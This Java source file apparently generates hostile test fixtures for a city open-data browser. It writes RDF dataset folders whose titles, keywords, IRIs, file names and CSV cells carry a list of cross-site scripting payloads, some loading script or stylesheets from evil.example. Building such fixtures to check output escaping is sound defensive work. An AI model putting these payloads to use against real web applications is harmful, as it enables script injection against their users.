package org.machinami.browser;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Dataset folders that hold a script in every text, in names of files and in IRIs. */
final class HostileDatasets {
  static final int NUMBER = 5;
  static final int EACH = 40;

  private static final List<String> SCRIPTS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<script src=data:text/javascript,alert(1)></script>",
          "<script src=//evil.example/x.js></script>",
          "<script>alert(1)//",
          "<<script>alert(1)//<</script>",
          "<img src=x onerror=alert(1)>",
          "<img src=x onerror=\"alert(1)\">",
          "<img/src=`x`onerror=alert(1)>",
          "<img src=http://evil.example/pixel.png>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
          "<body onload=alert(1)>",
          "<iframe src=javascript:alert(1)></iframe>",
          "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
          "<object data=javascript:alert(1)></object>",
          "<embed src=javascript:alert(1)>",
          "<base href=http://evil.example/>",
          "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
          "<link rel=stylesheet href=http://evil.example/x.css>",
          "<style>@import 'http://evil.example/x.css';</style>",
          "<form action=javascript:alert(1)><button>x</button></form>",
          "<button formaction=javascript:alert(1)>x</button>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<video src=x onerror=alert(1)></video>",
          "<marquee onstart=alert(1)>x</marquee>",
          "<a href=javascript:alert(1)>x</a>",
          "<a href='&#106;avascript:alert(1)'>x</a>",
          "<math href=javascript:alert(1)>x</math>",
          "[x](javascript:alert(1))",
          "![x](javascript:alert(1))",
          "[x](data:text/html,<script>alert(1)</script>)",
          "<javascript:alert(1)>",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          "javascript:alert(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;");

  /** Ways out of where the text stands. */
  private static final List<String> BEFORE = List.of("", "\">", "'>", "</title></textarea>", "-->");

  private static final String COLUMN = "<svg onload=alert(1)>";

  /** The things lie side by side, so that there is one wherever one looks. */
  private static final int IN_A_ROW = 8;

  private HostileDatasets() {}

  static Stream<String> payloads() {
    return BEFORE.stream().flatMap(before -> SCRIPTS.stream().map(script -> before + script));
  }

  /** Writes the folders. */
  static Path write(Path folder) throws IOException {
    List<String> payloads = payloads().toList();
    for (int i = 0; i < NUMBER; i++) {
      String id = "hostile-" + i;
      List<String> own = payloads.subList(i * EACH, (i + 1) * EACH);
      Path dataset = Files.createDirectories(folder.resolve(id));
      String file = BEFORE.get(i).replace('/', '|') + "<img src=x onerror=alert(1)>.csv";
      Files.writeString(dataset.resolve("dataset.ttl"), description(id, file, own));
      Files.writeString(dataset.resolve("data.ttl"), data(id, own));
      Files.writeString(dataset.resolve(file), "NO," + COLUMN + "\n1," + own.get(0) + "\n");
      Files.writeString(dataset.resolve("mapping.rml.ttl"), mapping(id, file));
    }
    return folder;
  }

  private static String mapping(String id, String file) {
    return """
        PREFIX rr: <http://www.w3.org/ns/r2rml#>
        PREFIX rml: <http://semweb.mmlab.be/ns/rml#>
        PREFIX ql: <http://semweb.mmlab.be/ns/ql#>
        PREFIX city: <https://machinami.org/vocab/city#>
        PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
        <#row> rml:logicalSource [ rml:source FILE ; rml:referenceFormulation ql:CSV ] ;
          rr:subjectMap [ rr:template "id/facility/ID-file-{NO}" ; rr:class city:Facility ] ;
          rr:predicateObjectMap [ rr:predicate rdfs:label ;
            rr:objectMap [ rml:reference COLUMN ; rr:language "ja" ] ] .
        """
        .replace("ID", id)
        .replace("FILE", literal(file))
        .replace("COLUMN", literal(COLUMN));
  }

  private static String description(String id, String file, List<String> payloads) {
    String first = payloads.get(0);
    return """
        PREFIX city: <https://machinami.org/vocab/city#>
        PREFIX dcat: <http://www.w3.org/ns/dcat#>
        PREFIX dct: <http://purl.org/dc/terms/>
        PREFIX foaf: <http://xmlns.com/foaf/0.1/>
        PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
        PREFIX vcard: <http://www.w3.org/2006/vcard/ns#>
        PREFIX xsd: <http://www.w3.org/2001/XMLSchema#>
        <datasets/ID> a dcat:Dataset ;
          dct:title TITLE@ja , TITLE@en ;
          dct:description ALL@ja , ALL@en ;
          dcat:keyword KEYWORDS ;
          dct:identifier TITLE ;
          dct:publisher <publishers/ID> ;
          dcat:contactPoint <publishers/ID#contact> ;
          dcat:theme <https://machinami.org/vocab/service-field/finance> ;
          city:sector <https://machinami.org/vocab/sector/private> ;
          dct:license <https://creativecommons.org/licenses/by/4.0/> ;
          city:accessPlan <https://machinami.org/vocab/access-plan/open> ;
          dct:accessRights <http://publications.europa.eu/resource/authority/access-right/PUBLIC> ;
          dct:accrualPeriodicity <http://publications.europa.eu/resource/authority/frequency/ANNUAL> ;
          dct:issued "2026-11-01"^^xsd:date ;
          dct:modified "2099-11-20"^^xsd:date ;
          dct:spatial <id/municipality/13101> ;
          dct:provenance <datasets/ID#provenance> ;
          dct:language <http://publications.europa.eu/resource/authority/language/JPN> ;
          dct:conformsTo <https://evil.example/FILE> ;
          dcat:landingPage <https://evil.example/FILE> ;
          city:personalDataStage <https://machinami.org/vocab/personal-data-stage/0> ;
          city:synthetic true ;
          dcat:distribution <datasets/ID#ttl> .
        <datasets/ID#ttl> a dcat:Distribution ;
          dct:title TITLE@ja , TITLE@en ; dct:description TITLE@ja , TITLE@en ;
          dcat:mediaType <https://www.iana.org/assignments/media-types/text/turtle> ;
          dcat:accessURL <https://evil.example/FILE> ;
          dcat:downloadURL <datasets/ID/files/NAME> ;
          dct:license <https://creativecommons.org/licenses/by/4.0/> .
        <datasets/ID#provenance> a dct:ProvenanceStatement ; rdfs:label TITLE@ja , TITLE@en .
        <https://evil.example/FILE> a dct:Standard ; rdfs:label TITLE@ja , TITLE@en .
        <publishers/ID> a foaf:Agent ; foaf:name TITLE@ja , TITLE@en ;
          foaf:mbox <mailto:x@evil.example> .
        <publishers/ID#contact> a vcard:Kind ; vcard:fn TITLE@ja , TITLE@en ;
          vcard:hasEmail <mailto:x@evil.example> .
        """
        .replace("ID", id)
        .replace("NAME", encoded(file))
        .replace("FILE", encoded(first))
        .replace("KEYWORDS", joined(payloads, "@ja , ") + "@ja")
        .replace("TITLE", literal(first))
        .replace("ALL", literal(String.join("\n\n", payloads)));
  }

  private static String data(String id, List<String> payloads) {
    String things =
        IntStream.range(0, payloads.size())
            .mapToObj(
                i ->
                    """
                    <id/facility/ID> a city:Facility ; rdfs:label TEXT@ja , TEXT@en ;
                      city:facilityKind TEXT@ja ; schema:address TEXT ; schema:url <https://evil.example/FILE> ;
                      city:municipality <id/municipality/13101> , <id/facility/FILE> ;
                      geo:hasGeometry <id/facility/ID#geometry> .
                    <id/facility/ID#geometry> geo:asWKT "AREA"^^geo:wktLiteral .
                    """
                        .replace("ID", id + "-" + i)
                        .replace("FILE", encoded(payloads.get(i)))
                        .replace("AREA", area(i))
                        .replace("TEXT", literal(payloads.get(i))))
            .collect(Collectors.joining("\n"));
    return """
        PREFIX city: <https://machinami.org/vocab/city#>
        PREFIX geo: <http://www.opengis.net/ont/geosparql#>
        PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
        PREFIX schema: <https://schema.org/>
        """
        + things;
  }

  /** A square of a chequered ground in the middle of the city. */
  private static String area(int i) {
    int column = i % IN_A_ROW;
    int row = i / IN_A_ROW;
    double west = 139.74 + 0.002 * column;
    double south = 35.68 + 0.002 * row;
    return String.format(
        Locale.ROOT,
        "POLYGON((%1$.3f %2$.3f, %3$.3f %2$.3f, %3$.3f %4$.3f, %1$.3f %4$.3f, %1$.3f %2$.3f))",
        west,
        south,
        west + 0.002,
        south + 0.002);
  }

  private static String joined(List<String> payloads, String between) {
    return payloads.stream().map(HostileDatasets::literal).collect(Collectors.joining(between));
  }

  private static String literal(String text) {
    return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + '"';
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
